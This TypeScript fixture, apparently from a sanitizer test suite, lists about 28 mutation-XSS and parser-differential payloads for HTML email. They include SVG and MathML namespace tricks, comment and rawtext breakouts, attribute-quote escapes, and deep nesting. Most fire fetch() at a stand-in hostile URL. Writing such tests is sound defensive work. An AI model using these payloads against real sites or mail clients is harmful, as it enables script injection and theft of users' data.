/** Making two parsers read two different things. */
import { hostileUrl as at, hostile } from './kit.ts'

const image = `<img src=x onerror="fetch('${at}/ran')">`

export const parserMails = [
  hostile('svg-script', `<svg><script>fetch('${at}/ran')</script></svg>`),
  hostile('svg-onload', `<svg onload="fetch('${at}/ran')"><circle r=1></svg>`),
  hostile('svg-use', `<svg><use href="${at}/x.svg#a"></use><image href="${at}/x.png"/></svg>`),
  hostile(
    'svg-animate',
    `<svg><a><animate attributeName=href values="javascript:fetch('${at}/ran')"/><text>x</text></a></svg>`,
  ),
  hostile('svg-foreign-object', `<svg><foreignObject><body>${image}</body></foreignObject></svg>`),
  hostile('svg-breakout', `<svg><p>${image}<style><!--</style>${image}--></style>`),
  hostile('svg-style-cdata', `<svg><style><![CDATA[</style>${image}]]></style></svg>`),
  hostile('math-mutation', `<math><mtext><table><mglyph><style><!--</style>${image}-->`),
  hostile('math-annotation', `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`),
  hostile('noscript', `<noscript><p title="</noscript>${image.replaceAll('"', "'")}">x</noscript>`),
  hostile('template', `<template>${image}<script>1</script></template>`),
  hostile('title', `<title></title>${image}`),
  hostile('textarea', `<textarea></textarea>${image}<textarea>${image}`),
  hostile('xmp', `<xmp></xmp>${image}<xmp>${image}</xmp>`),
  hostile('noembed', `<noembed></noembed>${image}<noframes>${image}</noframes>`),
  hostile('plaintext', `<p>a</p><plaintext>${image}`),
  hostile('comment-early-end', `<!-->${image}<!--->${image}<!-- --!>${image}-->`),
  hostile('comment-unclosed', `<p>a</p><!-- ${image}`),
  hostile('comment-conditional', `<!--[if mso]>${image}<![endif]--><![if !mso]>${image}<![endif]>`),
  hostile('attribute-quotes', `<p title='"><img src=x onerror=fetch("${at}/ran")>'>x</p>`),
  hostile('attribute-backtick', `<p title="\`onmouseover=fetch('${at}/ran')">x</p>`),
  hostile('attribute-unclosed', `<p title="${image}`),
  hostile('attribute-entity-quote', `<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>`),
  hostile('table-foster', `<table>${image}<tr>${image}<td><select><style></select>${image}</style></table>`),
  hostile('deep-nesting', `${'<div>'.repeat(5_000)}${image}${'</div>'.repeat(5_000)}`),
  hostile('many-attributes', `<p ${Array.from({ length: 5_000 }, (_, i) => `a${i}=1`).join(' ')} onclick="x()">x</p>`),
  hostile('closing-ours', `</body></html>${image}</style></style></head><body onload="x()">`),
  hostile('doctype-inside', `<!doctype html [<!ENTITY x "${at}">]>${image}&x;`),
]
